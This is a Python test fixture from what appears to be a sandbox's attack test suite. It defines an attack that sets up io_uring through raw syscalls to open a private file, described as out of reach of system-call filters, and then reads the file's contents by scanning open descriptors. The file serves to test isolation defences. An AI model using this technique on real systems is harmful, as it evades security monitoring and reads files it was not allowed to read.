"""Opens a file through io_uring, which no system-call filter sees."""

from tests.attacks.attack import Attack
from tests.attacks.pieces import OUTPUT_SIZE_POINTS, SHOW
from tests.attacks.sources import OUTPUT_SIZE

ATTACK = Attack(
    wants="a private file, opened by the kernel on its behalf",
    top=SHOW
    + """
import ctypes, mmap, os, struct

libc = ctypes.CDLL(None, use_errno=True)
SETUP, ENTER = 425, 426

def by_ring():
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(SETUP, 4, parameters)
    if ring < 0:
        raise OSError(ctypes.get_errno(), "refused")
    values = struct.unpack_from("<30I", parameters.raw)
    submission, completion = values[10:20], values[20:30]
    queue = mmap.mmap(ring, submission[6] + 4 * values[0] + 4096, offset=0)
    entries = mmap.mmap(ring, 64 * values[0], offset=0x10000000)
    path = ctypes.create_string_buffer(b"@SECRET@")
    # opcode 18 opens relative to the working directory
    entry = (18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0)
    entries[:64] = struct.pack("<BBHiQQII", *entry) + bytes(32)
    tail = struct.unpack_from("<I", queue, submission[1])[0]
    struct.pack_into("<I", queue, submission[6], 0)
    struct.pack_into("<I", queue, submission[1], tail + 1)
    libc.syscall(ENTER, ring, 1, 1, 1, None, 0)
    found = b""
    for descriptor in range(3, 64):
        try:
            found += os.pread(descriptor, 1 << 12, 0)
        except OSError:
            continue
    return found

show(by_ring)
""",
    solutions={"output_size": OUTPUT_SIZE},
    deserves=OUTPUT_SIZE_POINTS,
)
